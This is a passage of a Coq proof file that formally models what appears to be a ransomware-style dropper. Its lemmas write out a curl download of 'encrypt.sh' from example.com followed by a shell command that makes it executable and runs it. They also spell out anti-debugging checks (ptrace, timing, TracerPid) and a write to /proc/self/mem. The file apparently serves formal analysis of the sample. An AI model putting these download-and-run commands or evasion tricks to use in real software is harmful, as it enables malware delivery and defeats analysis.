    = Ret (if allocs_ok o (n_malloc s) 2 then
             match os_fopen o (bytes "/proc/self/status") with
             | Some lines => scan_status lines (bytes "TracerPid")
             | None => 0
             end
           else 0) s'.
Proof.
  intros Hk. unfold _ad_proc, bind. do 2 ds_good Hk. cbn [allocs_ok].
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|by eexists].
  destruct (os_malloc o (S (n_malloc s))); cbn [andb]; [|by eexists].
  unfold fopen, ret.
  destruct plaintext_strings as (_ & _ & _ & _ & _ & _ & _ & _ & -> & -> & _).
  destruct (os_fopen o (bytes "/proc/self/status")); by eexists.
Qed.

Lemma ad_proc_reads_status_witness :
  exists s',
    _ad_proc os_clean init_pstate
    = Ret (if allocs_ok os_clean (n_malloc init_pstate) 2 then
             match os_fopen os_clean (bytes "/proc/self/status") with
             | Some lines => scan_status lines (bytes "TracerPid")
             | None => 0
             end
           else 0) s'.
Proof.
  apply (ad_proc_reads_status os_clean init_pstate).
  split; [reflexivity|left; reflexivity].
Defined.

Lemma n_malloc_after_ds3 (o : oracle) (s : pstate) :
  n_malloc (after_ds o (after_ds o (after_ds o s))) = (n_malloc s + 3)%nat.
Proof. rewrite 3 n_malloc_after_ds. lia. Qed.

Lemma n_malloc_after_ds5 (o : oracle) (s : pstate) :
  n_malloc (after_ds o (after_ds o (after_ds o (after_ds o (after_ds o s)))))
  = (n_malloc s + 5)%nat.
Proof. rewrite 5 n_malloc_after_ds. lia. Qed.

(** X14.  [_download] decodes its five strings first, which leaves the
    state [s5].  When one of the five allocations fails it returns -1 in
    that state: no [fork] has been issued.  Otherwise it forks once: the
    child runs "curl" with the arguments "curl",
    "http://example.com/encrypt.sh", "-o", "/tmp/encrypt.sh", or ends with
    [_exit(127)]; the parent returns -1 when [fork] failed, 0 when the child
    exited with status 0, and -1 otherwise. *)
Theorem download_runs_curl (o : oracle) (s : pstate) :
  key_good s ->
  let s5 := after_ds o (after_ds o (after_ds o (after_ds o (after_ds o s)))) in
  _download o s
  = (if allocs_ok o (n_malloc s) 5 then
       if os_fork o (n_fork s) =? 0 then
         Halt (if os_exec o (bytes "curl")
                    [bytes "curl"; bytes "http://example.com/encrypt.sh";
                     bytes "-o"; bytes "/tmp/encrypt.sh"]
               then ChildExec (bytes "curl")
                      [bytes "curl"; bytes "http://example.com/encrypt.sh";
                       bytes "-o"; bytes "/tmp/encrypt.sh"]
               else ChildExit 127) (after_fork s5)
       else
         Ret (if os_fork o (n_fork s) <? 0 then -1
              else if WIFEXITED (os_waitpid o (os_fork o (n_fork s)))
                      && (WEXITSTATUS (os_waitpid o (os_fork o (n_fork s))) =? 0)
                   then 0 else -1) (after_fork s5)
     else Ret (-1) s5)
  /\ n_fork s5 = n_fork s /\ n_fork (after_fork s5) = S (n_fork s)
  /\ n_malloc s5 = (n_malloc s + 5)%nat
  /\ trace s5 = trace s /\ written s5 = written s.
Proof.
  intros Hk s5.
  assert (undisturbed s s5) as (T & F & Wr) by (subst s5; undisturbed_ds).
  split; [|split; [exact F|split; [cbn [after_fork n_fork]; by rewrite F|]]];
    [|split; [apply n_malloc_after_ds5|by split]].
  rewrite <- F. subst s5.
  unfold _download. unfold bind at 1 2 3 4 5. do 5 ds_good Hk.
  cbn [allocs_ok].
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|reflexivity].
  destruct (os_malloc o (S (n_malloc s))); cbn [andb]; [|reflexivity].
  destruct (os_malloc o (S (S (n_malloc s)))); cbn [andb]; [|reflexivity].
  destruct (os_malloc o (S (S (S (n_malloc s))))); cbn [andb]; [|reflexivity].
  destruct (os_malloc o (S (S (S (S (n_malloc s)))))); cbn [andb]; [|reflexivity].
  unfold bind, fork.
  destruct (os_fork o _ =? 0).
  - unfold sys_open, exec, _exit, stop. cbn [fmap list_fmap].
    table_strings.
    destruct (os_exec o _ _); reflexivity.
  - destruct (os_fork o _ <? 0); [reflexivity|].
    unfold waitpid, ret. destruct (WIFEXITED _ && _); reflexivity.
Qed.

Lemma download_runs_curl_witness :
  _download os_clean init_pstate
  = (if allocs_ok os_clean (n_malloc init_pstate) 5 then
       if os_fork os_clean (n_fork init_pstate) =? 0 then
         Halt (if os_exec os_clean (bytes "curl")
                    [bytes "curl"; bytes "http://example.com/encrypt.sh";
                     bytes "-o"; bytes "/tmp/encrypt.sh"]
               then ChildExec (bytes "curl")
                      [bytes "curl"; bytes "http://example.com/encrypt.sh";
                       bytes "-o"; bytes "/tmp/encrypt.sh"]
               else ChildExit 127)
              (after_fork
                 (after_ds os_clean (after_ds os_clean (after_ds os_clean
                    (after_ds os_clean (after_ds os_clean init_pstate))))))
       else
         Ret (if os_fork os_clean (n_fork init_pstate) <? 0 then -1
              else if WIFEXITED (os_waitpid os_clean (os_fork os_clean (n_fork init_pstate)))
                      && (WEXITSTATUS
                            (os_waitpid os_clean (os_fork os_clean (n_fork init_pstate)))
                          =? 0)
                   then 0 else -1)
             (after_fork
                (after_ds os_clean (after_ds os_clean (after_ds os_clean
                   (after_ds os_clean (after_ds os_clean init_pstate))))))
     else Ret (-1)
            (after_ds os_clean (after_ds os_clean (after_ds os_clean
               (after_ds os_clean (after_ds os_clean init_pstate))))))
  /\ n_fork (after_ds os_clean (after_ds os_clean (after_ds os_clean
               (after_ds os_clean (after_ds os_clean init_pstate)))))
     = n_fork init_pstate
  /\ n_fork (after_fork
               (after_ds os_clean (after_ds os_clean (after_ds os_clean
                  (after_ds os_clean (after_ds os_clean init_pstate))))))
     = S (n_fork init_pstate)
  /\ n_malloc (after_ds os_clean (after_ds os_clean (after_ds os_clean
                 (after_ds os_clean (after_ds os_clean init_pstate)))))
     = (n_malloc init_pstate + 5)%nat
  /\ trace (after_ds os_clean (after_ds os_clean (after_ds os_clean
              (after_ds os_clean (after_ds os_clean init_pstate)))))
     = trace init_pstate
  /\ written (after_ds os_clean (after_ds os_clean (after_ds os_clean
                (after_ds os_clean (after_ds os_clean init_pstate)))))
     = written init_pstate.
Proof.
  apply (download_runs_curl os_clean init_pstate).
  split; [reflexivity|left; reflexivity].
Defined.

(** X15.  [_exec_payload] decodes its three strings first, which leaves
    the state [s3].  When one of the three allocations fails it returns -1
    in that state: no [fork] has been issued.  Otherwise it forks once: the
    child runs "/bin/sh" with the arguments "/bin/sh", "-c", "chmod +x
    /tmp/encrypt.sh && /tmp/encrypt.sh", or ends with [_exit(127)]; the
    parent returns -1 when [fork] failed, 0 when the child exited with
    status 0, and -1 otherwise. *)
Theorem exec_payload_runs_shell (o : oracle) (s : pstate) :
  key_good s ->
  let s3 := after_ds o (after_ds o (after_ds o s)) in
  _exec_payload o s
  = (if allocs_ok o (n_malloc s) 3 then
       if os_fork o (n_fork s) =? 0 then
         Halt (if os_exec o (bytes "/bin/sh")
                    [bytes "/bin/sh"; bytes "-c";
                     bytes "chmod +x /tmp/encrypt.sh && /tmp/encrypt.sh"]
               then ChildExec (bytes "/bin/sh")
                      [bytes "/bin/sh"; bytes "-c";
                       bytes "chmod +x /tmp/encrypt.sh && /tmp/encrypt.sh"]
               else ChildExit 127) (after_fork s3)
       else
         Ret (if os_fork o (n_fork s) <? 0 then -1
              else if WIFEXITED (os_waitpid o (os_fork o (n_fork s)))
                      && (WEXITSTATUS (os_waitpid o (os_fork o (n_fork s))) =? 0)
                   then 0 else -1) (after_fork s3)
     else Ret (-1) s3)
  /\ n_fork s3 = n_fork s /\ n_fork (after_fork s3) = S (n_fork s)
  /\ n_malloc s3 = (n_malloc s + 3)%nat
  /\ trace s3 = trace s /\ written s3 = written s.
Proof.
  intros Hk s3.
  assert (undisturbed s s3) as (T & F & Wr) by (subst s3; undisturbed_ds).
  split; [|split; [exact F|split; [cbn [after_fork n_fork]; by rewrite F|]]];
    [|split; [apply n_malloc_after_ds3|by split]].
  rewrite <- F. subst s3.
  unfold _exec_payload. unfold bind at 1 2 3. do 3 ds_good Hk.
  cbn [allocs_ok].
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|reflexivity].
  destruct (os_malloc o (S (n_malloc s))); cbn [andb]; [|reflexivity].
  destruct (os_malloc o (S (S (n_malloc s)))); cbn [andb]; [|reflexivity].
  unfold bind, fork.
  destruct (os_fork o _ =? 0).
  - unfold exec, _exit, stop. cbn [fmap list_fmap].
    table_strings.
    destruct (os_exec o _ _); reflexivity.
  - destruct (os_fork o _ <? 0); [reflexivity|].
    unfold waitpid, ret. destruct (WIFEXITED _ && _); reflexivity.
Qed.

Lemma exec_payload_runs_shell_witness :
  _exec_payload os_out_of_memory init_pstate
  = (if allocs_ok os_out_of_memory (n_malloc init_pstate) 3 then
       if os_fork os_out_of_memory (n_fork init_pstate) =? 0 then
         Halt (if os_exec os_out_of_memory (bytes "/bin/sh")
                    [bytes "/bin/sh"; bytes "-c";
                     bytes "chmod +x /tmp/encrypt.sh && /tmp/encrypt.sh"]
               then ChildExec (bytes "/bin/sh")
                      [bytes "/bin/sh"; bytes "-c";
                       bytes "chmod +x /tmp/encrypt.sh && /tmp/encrypt.sh"]
               else ChildExit 127)
              (after_fork
                 (after_ds os_out_of_memory (after_ds os_out_of_memory
                    (after_ds os_out_of_memory init_pstate))))
       else
         Ret (if os_fork os_out_of_memory (n_fork init_pstate) <? 0 then -1
              else if WIFEXITED (os_waitpid os_out_of_memory
                                   (os_fork os_out_of_memory (n_fork init_pstate)))
                      && (WEXITSTATUS
                            (os_waitpid os_out_of_memory
                               (os_fork os_out_of_memory (n_fork init_pstate)))
                          =? 0)
                   then 0 else -1)
             (after_fork
                (after_ds os_out_of_memory (after_ds os_out_of_memory
                   (after_ds os_out_of_memory init_pstate))))
     else Ret (-1)
            (after_ds os_out_of_memory (after_ds os_out_of_memory
               (after_ds os_out_of_memory init_pstate))))
  /\ n_fork (after_ds os_out_of_memory (after_ds os_out_of_memory
               (after_ds os_out_of_memory init_pstate)))
     = n_fork init_pstate
  /\ n_fork (after_fork
               (after_ds os_out_of_memory (after_ds os_out_of_memory
                  (after_ds os_out_of_memory init_pstate))))
     = S (n_fork init_pstate)
  /\ n_malloc (after_ds os_out_of_memory (after_ds os_out_of_memory
                 (after_ds os_out_of_memory init_pstate)))
     = (n_malloc init_pstate + 3)%nat
  /\ trace (after_ds os_out_of_memory (after_ds os_out_of_memory
              (after_ds os_out_of_memory init_pstate)))
     = trace init_pstate
  /\ written (after_ds os_out_of_memory (after_ds os_out_of_memory
                (after_ds os_out_of_memory init_pstate)))
     = written init_pstate.
Proof.
  apply (exec_payload_runs_shell os_out_of_memory init_pstate).
  split; [reflexivity|left; reflexivity].
Defined.

(** X20.  [_hide_proc] opens "/proc/self/mem" and, when the descriptor it
    gets is not negative, writes 512 zero bytes to it, once; it writes
    nothing when its allocation fails or the descriptor is negative.  It
    allocates once, does not fork and records no event. *)
Theorem hide_proc_writes (o : oracle) (s : pstate) :
  key_good s ->
  let fd := wrap_s32 (os_open o (bytes "/proc/self/mem")) in
  exists s',
    _hide_proc o s = Ret tt s'
    /\ written s'
       = (if os_malloc o (n_malloc s) && negb (fd <? 0)
          then written s ++ [(fd, replicate 512 0)] else written s)
    /\ n_malloc s' = S (n_malloc s) /\ n_fork s' = n_fork s /\ trace s' = trace s.
Proof.
  intros Hk fd. subst fd. unfold _hide_proc, bind. ds_good Hk.
  pose proof (undisturbed_after_ds o s) as (T & F & Wr).
  pose proof (n_malloc_after_ds o s) as Mm.
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|by eexists].
  unfold sys_open. table_strings. cbv zeta.
  destruct (wrap_s32 _ <? 0); cbn [negb]; [by eexists|].
  unfold sys_write, sys_close. eexists. split; [reflexivity|].
  cbn [written n_malloc n_fork trace]. rewrite Wr. by repeat split.
Qed.

Lemma hide_proc_writes_witness :
  exists s',
    _hide_proc os_clean init_pstate = Ret tt s'
    /\ written s'
       = (if os_malloc os_clean (n_malloc init_pstate)
             && negb (wrap_s32 (os_open os_clean (bytes "/proc/self/mem")) <? 0)
          then written init_pstate
               ++ [(wrap_s32 (os_open os_clean (bytes "/proc/self/mem")),
                    replicate 512 0)]
          else written init_pstate)
    /\ n_malloc s' = S (n_malloc init_pstate) /\ n_fork s' = n_fork init_pstate
    /\ trace s' = trace init_pstate.
Proof.
  apply (hide_proc_writes os_clean init_pstate).
  split; [reflexivity|left; reflexivity].
Defined.

(** ** Exact results of the functions *)

Lemma steps_fields (s s' : pstate) (dm dt df : nat) :
  key_good s -> _rk s' = _rk s -> _key_ready s' = _key_ready s ->
  n_malloc s' = (n_malloc s + dm)%nat -> n_time s' = (n_time s + dt)%nat ->
  n_fork s' = (n_fork s + df)%nat ->
  steps s s' dm dt df.
Proof.
  intros [W K] E1 E2 Em Et Ef. split; [|by split].
  unfold key_good, WF. rewrite E1, E2. by split.
Qed.

Lemma steps_refl (s : pstate) : key_good s -> steps s s 0 0 0.
Proof. intros K. apply steps_fields; [exact K|reflexivity|reflexivity|lia..]. Qed.

Lemma steps_trans (s1 s2 s3 : pstate) (a b c a' b' c' a'' b'' c'' : nat) :
  steps s1 s2 a b c -> steps s2 s3 a' b' c' ->
  a'' = (a + a')%nat -> b'' = (b + b')%nat -> c'' = (c + c')%nat ->
  steps s1 s3 a'' b'' c''.
Proof.
  intros (_ & M1 & T1 & F1) (K & M2 & T2 & F2) -> -> ->.
  split; [exact K|]. repeat split; lia.
Qed.

Lemma n_time_after_ds (o : oracle) (s : pstate) : n_time (after_ds o s) = n_time s.
Proof. unfold after_ds, after_recover. cbn [n_time]. by destruct (_key_ready s =? 0). Qed.

Lemma sm_flag_after_ds (o : oracle) (s : pstate) : _sm_flag (after_ds o s) = _sm_flag s.
Proof. unfold after_ds, after_recover. cbn [_sm_flag]. by destruct (_key_ready s =? 0). Qed.

Lemma n_mprotect_after_ds (o : oracle) (s : pstate) :
  n_mprotect (after_ds o s) = n_mprotect s.
Proof. unfold after_ds, after_recover. cbn [n_mprotect]. by destruct (_key_ready s =? 0). Qed.

Lemma same_flag_refl (s : pstate) : same_flag s s.
Proof. by split. Qed.

Lemma same_flag_trans (s1 s2 s3 : pstate) :
  same_flag s1 s2 -> same_flag s2 s3 -> same_flag s1 s3.
Proof. intros [F1 P1] [F2 P2]. split; congruence. Qed.

Lemma same_flag_after_ds (o : oracle) (s : pstate) : same_flag s (after_ds o s).
Proof. split; [apply sm_flag_after_ds|apply n_mprotect_after_ds]. Qed.

Lemma steps_after_ds (o : oracle) (s : pstate) :
  key_good s -> steps s (after_ds o s) 1 0 0.
Proof.
  intros K. split; [by apply key_good_after_ds|].
  rewrite n_malloc_after_ds, n_time_after_ds, n_fork_after_ds. repeat split; lia.
Qed.

Lemma steps_key_good (s s' : pstate) (a b c : nat) : steps s s' a b c -> key_good s'.
Proof. by intros [K _]. Qed.

Lemma steps_after_ds_more (o : oracle) (s s1 : pstate) (n : nat) :
  steps s s1 n 0 0 -> steps s (after_ds o s1) (S n) 0 0.
Proof.
  intros St. apply (steps_trans s s1 _ n 0 0 1 0 0); [exact St| |lia..].
  apply steps_after_ds. by eapply steps_key_good.
Qed.

Lemma steps_after_ds2 (o : oracle) (s : pstate) :
  key_good s -> steps s (after_ds o (after_ds o s)) 2 0 0.
Proof. intros K. by apply steps_after_ds_more, steps_after_ds. Qed.

Lemma steps_after_ds3 (o : oracle) (s : pstate) :
  key_good s -> steps s (after_ds o (after_ds o (after_ds o s))) 3 0 0.
Proof. intros K. by apply steps_after_ds_more, steps_after_ds2. Qed.

Lemma steps_after_ds5 (o : oracle) (s : pstate) :
  key_good s ->
  steps s (after_ds o (after_ds o (after_ds o (after_ds o (after_ds o s))))) 5 0 0.
Proof. intros K. by apply steps_after_ds_more, steps_after_ds_more, steps_after_ds3. Qed.

(** The state after [fork], in a state reached from [s]. *)
Lemma steps_forked (s s1 : pstate) (dm f : nat) (tr : list event) :
  steps s s1 dm 0 0 -> f = S (n_fork s) ->
  steps s {| _rk := _rk s1; _key_ready := _key_ready s1; _sm_flag := _sm_flag s1;
             n_malloc := n_malloc s1; n_time := n_time s1; n_fork := f;
             n_mprotect := n_mprotect s1; ds_null := ds_null s1;
             written := written s1; trace := tr |} dm 0 1.
Proof.
  intros (K & M & T & F) ->. split; [exact K|]. cbn [n_malloc n_time n_fork].
  repeat split; lia.
Qed.

Lemma ad_ptrace_exact (o : oracle) (s : pstate) :
  key_good s ->
  _ad_ptrace o s = Ret (if os_ptrace o PTRACE_TRACEME =? -1 then 1 else 0) s.
Proof.
  intros _. unfold _ad_ptrace, bind, ptrace.
  by destruct (os_ptrace o PTRACE_TRACEME =? -1).
Qed.

Lemma ad_timing_exact (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _ad_timing o s
    = Ret (if 500000 <? elapsed_us (os_gettimeofday o (n_time s))
                                   (os_gettimeofday o (S (n_time s)))
           then 1 else 0) s'
    /\ steps s s' 0 2 0 /\ same_flag s s'.
Proof.
  intros K. unfold _ad_timing, bind, gettimeofday, elapsed_us. cbn [n_time].
  destruct (500000 <? _); (eexists; split; [reflexivity|]);
    (split; [apply steps_fields; [exact K|reflexivity|reflexivity|cbn; lia..]
            |by split]).
Qed.

Lemma ad_proc_exact (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _ad_proc o s
    = Ret (if allocs_ok o (n_malloc s) 2 then
             match os_fopen o (bytes "/proc/self/status") with
             | Some lines => scan_status lines (bytes "TracerPid")
             | None => 0
             end
           else 0) s'
    /\ steps s s' 2 0 0 /\ same_flag s s'.
Proof.
  intros Hk. unfold _ad_proc, bind. do 2 ds_good Hk. cbn [allocs_ok].
  pose proof (steps_after_ds2 o s Hk) as St.
  pose proof (same_flag_trans _ _ _ (same_flag_after_ds o s)
                (same_flag_after_ds o (after_ds o s))) as Fl.
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|eexists; split; [reflexivity|split; [exact St|exact Fl]]].
  destruct (os_malloc o (S (n_malloc s))); cbn [andb]; [|eexists; split; [reflexivity|split; [exact St|exact Fl]]].
  unfold fopen, ret.
  table_strings.
  destruct (os_fopen o (bytes "/proc/self/status"));
    (eexists; split; [reflexivity|split; [exact St|exact Fl]]).
Qed.

Lemma check_os_exact (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _check_os o s
    = Ret (if (os_uname o =? 0) && os_malloc o (n_malloc s)
              && bool_decide (os_sysname o = bytes "Linux")
           then 1 else 0) s'
    /\ steps s s' (if os_uname o =? 0 then 1 else 0) 0 0.
Proof.
  intros Hk. unfold _check_os, bind, uname. cbn [fst snd].
  destruct (os_uname o =? 0); cbn [negb andb];
    [|eexists; split; [reflexivity|by apply steps_refl]].
  ds_good Hk. pose proof (steps_after_ds o s Hk) as St.
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  unfold ret, streq. table_strings.
  eexists; split; [reflexivity|exact St].
Qed.

Lemma check_marker_exact (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _check_marker o s
    = Ret (if os_malloc o (n_malloc s)
              && (os_stat o (bytes "/tmp/ghost_shell.c") =? 0)
           then 1 else 0) s'
    /\ steps s s' 1 0 0.
Proof.
  intros Hk. unfold _check_marker, bind. ds_good Hk.
  pose proof (steps_after_ds o s Hk) as St.
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  unfold stat, ret. table_strings.
  eexists; split; [reflexivity|exact St].
Qed.

Lemma hide_proc_exact (o : oracle) (s : pstate) :
  key_good s -> exists s', _hide_proc o s = Ret tt s' /\ steps s s' 1 0 0.
Proof.
  intros Hk. unfold _hide_proc, bind. ds_good Hk.
  pose proof (steps_after_ds o s Hk) as St.
  destruct (os_malloc o (n_malloc s)); [|eexists; split; [reflexivity|first [exact St|assumption]]].
  unfold sys_open, ret. destruct (wrap_s32 _ <? 0); (eexists; split; [reflexivity|exact St]).
Qed.

Lemma download_exact (o : oracle) (s : pstate) :
  key_good s -> os_fork o (n_fork s) <> 0 ->
  exists s',
    _download o s
    = Ret (if allocs_ok o (n_malloc s) 5 && negb (os_fork o (n_fork s) <? 0)
              && exited_ok (os_waitpid o (os_fork o (n_fork s)))
           then 0 else -1) s'
    /\ steps s s' 5 0 (if allocs_ok o (n_malloc s) 5 then 1 else 0).
Proof.
  intros Hk Hf. unfold _download. unfold bind at 1 2 3 4 5. do 5 ds_good Hk.
  pose proof (steps_after_ds5 o s Hk) as St.
  cbn [allocs_ok].
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  destruct (os_malloc o (S (n_malloc s))); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  destruct (os_malloc o (S (S (n_malloc s)))); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  destruct (os_malloc o (S (S (S (n_malloc s))))); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  destruct (os_malloc o (S (S (S (S (n_malloc s)))))); cbn [andb];
    [|eexists; split; [reflexivity|exact St]].
  unfold bind, fork. cbn [n_fork]. rewrite !n_fork_after_ds.
  destruct (Z.eqb_spec (os_fork o (n_fork s)) 0) as [E|_]; [done|].
  unfold waitpid, ret, exited_ok.
  destruct (os_fork o _ <? 0); cbn [negb andb];
    [|destruct (WIFEXITED _ && _)];
    (eexists; split; [reflexivity|]); exact (steps_forked _ _ _ _ _ St eq_refl).
Qed.

Lemma exec_payload_exact (o : oracle) (s : pstate) :
  key_good s -> os_fork o (n_fork s) <> 0 ->
  exists s',
    _exec_payload o s
    = Ret (if allocs_ok o (n_malloc s) 3 && negb (os_fork o (n_fork s) <? 0)
              && exited_ok (os_waitpid o (os_fork o (n_fork s)))
           then 0 else -1) s'
    /\ steps s s' 3 0 (if allocs_ok o (n_malloc s) 3 then 1 else 0).
Proof.
  intros Hk Hf. unfold _exec_payload. unfold bind at 1 2 3. do 3 ds_good Hk.
  pose proof (steps_after_ds3 o s Hk) as St.
  cbn [allocs_ok].
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  destruct (os_malloc o (S (n_malloc s))); cbn [andb]; [|eexists; split; [reflexivity|first [exact St|assumption]]].
  destruct (os_malloc o (S (S (n_malloc s)))); cbn [andb];
    [|eexists; split; [reflexivity|exact St]].
  unfold bind, fork. cbn [n_fork]. rewrite !n_fork_after_ds.
  destruct (Z.eqb_spec (os_fork o (n_fork s)) 0) as [E|_]; [done|].
  unfold waitpid, ret, exited_ok.
  destruct (os_fork o _ <? 0); cbn [negb andb];
    [|destruct (WIFEXITED _ && _)];
    (eexists; split; [reflexivity|]); exact (steps_forked _ _ _ _ _ St eq_refl).
Qed.

(** ** Exact passes *)

Lemma same_but_trace_good (s s0 : pstate) :
  same_but_trace s s0 -> key_good s -> key_good s0.
Proof.
  intros (E1 & E2 & _) [W K]. unfold key_good, WF. rewrite E1, E2. by split.
Qed.

Lemma same_but_trace_steps (s s0 s1 s2 : pstate) (dm dt df : nat) :
  same_but_trace s s0 -> steps s0 s1 dm dt df -> same_but_trace s1 s2 ->
  steps s s2 dm dt df.
Proof.
  intros (_ & _ & _ & M0 & T0 & F0 & _) (K & M & T & F) S2.
  pose proof (same_but_trace_good _ _ S2 K) as K2.
  destruct S2 as (_ & _ & _ & M2 & T2 & F2 & _).
  split; [exact K2|]. repeat split; lia.
Qed.

(** A pass that calls an [int] function and goes on with its result. *)
Lemma one_pass_steps (st rv sen : Z) (f : fn) (body : M Z) (k : Z -> M next)
    (o : oracle) (s : pstate) (r : Z) (dm dt df : nat) (keep : bool) :
  dispatch st rv sen = (x <- call f body ;; k x) ->
  (forall s0, same_but_trace s s0 ->
     exists s1, body o s0 = Ret r s1 /\ steps s0 s1 dm dt df
                /\ (keep = true -> same_flag s0 s1)) ->
  exists s1 s',
    one_pass st rv sen o s = k r o s' /\ same_but_trace s1 s'
    /\ steps s s' dm dt df /\ (keep = true -> same_flag s s').
Proof.
  intros Hd Hb. unfold one_pass. rewrite Hd. unfold call, bind, log, ret.
  match goal with |- context [body o ?s0] =>
    assert (same_but_trace s s0) as S0 by (by repeat split);
    destruct (Hb s0 S0) as (s1 & -> & St & Fl) end.
  eexists s1, _. split; [reflexivity|].
  assert (same_but_trace s1
            {| _rk := _rk s1; _key_ready := _key_ready s1; _sm_flag := _sm_flag s1;
               n_malloc := n_malloc s1; n_time := n_time s1; n_fork := n_fork s1;
               n_mprotect := n_mprotect s1; ds_null := ds_null s1;
               written := written s1; trace := trace s1 ++ [EvRet f r] |}) as S2
    by (by repeat split).
  split; [exact S2|]. split; [exact (same_but_trace_steps _ _ _ _ _ _ _ S0 St S2)|].
  intros E. destruct (Fl E) as [F P]. cbn [_sm_flag n_mprotect] in F, P. by split.
Qed.

Lemma dispatch_ad_ptrace (rv sen : Z) :
  dispatch ST_ANTI_DEBUG_1 rv sen
  = (r <- call F_ad_ptrace _ad_ptrace ;;
     if negb (r =? 0) then ret (Goto ST_EXIT_FAIL rv)
     else ret (Goto (Z.lxor ST_ANTI_DEBUG_2 0x0000 + 0) rv)).
Proof. reflexivity. Qed.

Lemma dispatch_ad_timing (rv sen : Z) :
  dispatch ST_ANTI_DEBUG_2 rv sen
  = (r <- call F_ad_timing _ad_timing ;;
     if negb (r =? 0) then ret (Goto ST_EXIT_FAIL rv)
     else ret (Goto ST_ANTI_DEBUG_3 rv)).
Proof. reflexivity. Qed.

Lemma pass_init (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s', one_pass ST_INIT rv sen o s = Ret (Goto ST_ANTI_DEBUG_1 rv) s'
    /\ steps s s' 0 0 0 /\ same_flag s s'.
Proof.
  intros K. unfold one_pass, bind, log, dispatch. cbn [Z.eqb ST_INIT Pos.eqb].
  rewrite opaque_true_1. eexists. split; [reflexivity|].
  split; [|by split]. apply steps_fields; [exact K|reflexivity|reflexivity|cbn; lia..].
Qed.

Lemma pass_ad_ptrace (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    one_pass ST_ANTI_DEBUG_1 rv sen o s
    = Ret (Goto (if os_ptrace o PTRACE_TRACEME =? -1 then ST_EXIT_FAIL
                 else ST_ANTI_DEBUG_2) rv) s'
    /\ steps s s' 0 0 0 /\ same_flag s s'.
Proof.
  intros K.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if os_ptrace o PTRACE_TRACEME =? -1 then 1 else 0) 0 0 0 true
              (dispatch_ad_ptrace rv sen)) as (s1 & s' & E & _ & St & Fl).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    exists s0. split; [by apply ad_ptrace_exact|].
    split; [by apply steps_refl|intros _; apply same_flag_refl]. }
  exists s'. rewrite E. split; [|split; [exact St|by apply Fl]].
  by destruct (os_ptrace o PTRACE_TRACEME =? -1).
Qed.

Lemma pass_ad_timing (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    one_pass ST_ANTI_DEBUG_2 rv sen o s
    = Ret (Goto (if 500000 <? elapsed_us (os_gettimeofday o (n_time s))
                                        (os_gettimeofday o (S (n_time s)))
                 then ST_EXIT_FAIL else ST_ANTI_DEBUG_3) rv) s'
    /\ steps s s' 0 2 0 /\ same_flag s s'.
Proof.
  intros K.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if 500000 <? elapsed_us (os_gettimeofday o (n_time s))
                                       (os_gettimeofday o (S (n_time s)))
               then 1 else 0) 0 2 0 true
              (dispatch_ad_timing rv sen)) as (s1 & s' & E & _ & St & Fl).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    destruct (ad_timing_exact o s0 K0) as (s1 & E & St & Fl).
    destruct S0 as (_ & _ & _ & _ & T0 & _). rewrite T0 in E. by exists s1. }
  exists s'. rewrite E. split; [|split; [exact St|by apply Fl]].
  by destruct (500000 <? _).
Qed.

Lemma pass_ad_proc (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    one_pass ST_ANTI_DEBUG_3 rv sen o s
    = Ret (Goto (if (if allocs_ok o (n_malloc s) 2 then
                       match os_fopen o (bytes "/proc/self/status") with
                       | Some lines => scan_status lines (bytes "TracerPid")
                       | None => 0
                       end
                     else 0) =? 0
                 then ST_SELF_MODIFY else ST_EXIT_FAIL) rv) s'
    /\ steps s s' 2 0 0 /\ same_flag s s'.
Proof.
  intros K.
  destruct (one_pass_steps _ rv sen _ _ _ o s
              (if allocs_ok o (n_malloc s) 2 then
                 match os_fopen o (bytes "/proc/self/status") with
                 | Some lines => scan_status lines (bytes "TracerPid")
                 | None => 0
                 end
               else 0) 2 0 0 true
              (dispatch_ad_proc rv sen)) as (s1 & s' & E & _ & St & Fl).
  { intros s0 S0. pose proof (same_but_trace_good _ _ S0 K) as K0.
    destruct (ad_proc_exact o s0 K0) as (s1 & E & St & Fl).
    destruct S0 as (_ & _ & _ & M0 & _). rewrite M0 in E. by exists s1. }
  exists s'. rewrite E. split; [|split; [exact St|by apply Fl]].
  by destruct (_ =? 0).
Qed.

Lemma pass_self_modify (rv sen : Z) (o : oracle) (s : pstate) :
  key_good s -> _sm_flag s = 0 ->
  exists s',
    one_pass ST_SELF_MODIFY rv sen o s
    = Ret (Goto (if os_mprotect o (n_mprotect s)
                       (Z.lor (Z.lor PROT_READ PROT_WRITE) PROT_EXEC) =? 0
                 then ST_CHECK_OS else ST_EXIT_FAIL) rv) s'
    /\ steps s s' 0 0 0.
Proof.
  intros K F0. unfold one_pass, bind at 1. unfold log at 1.
  change (dispatch ST_SELF_MODIFY rv sen)
    with (call_void F_self_modify _self_modify ;;;
          r <- call F_sm_check _sm_check ;;
          if negb (r =? 0) then ret (Goto ST_CHECK_OS rv)
          else ret (Goto ST_EXIT_FAIL rv)).
